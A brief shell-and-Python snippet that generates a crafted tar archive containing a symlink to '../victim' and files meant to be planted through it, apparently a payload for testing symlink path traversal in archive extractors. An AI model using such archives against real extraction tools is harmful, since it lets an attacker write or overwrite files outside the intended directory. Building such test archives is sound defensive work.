python3 - <<'EOF'
import io, sys, tarfile
out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w") as tar:
    def add(name, kind=tarfile.REGTYPE, link="", mode=0o644, data=b""):
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname, entry.mode, entry.size = kind, link, mode, len(data)
        tar.addfile(entry, io.BytesIO(data))
    add("a/l", tarfile.SYMTYPE, "../victim")
    add("b/l/planted", data=b"x")
    add("b/app", data=b"x")
sys.stdout.buffer.write(out.getvalue())
EOF
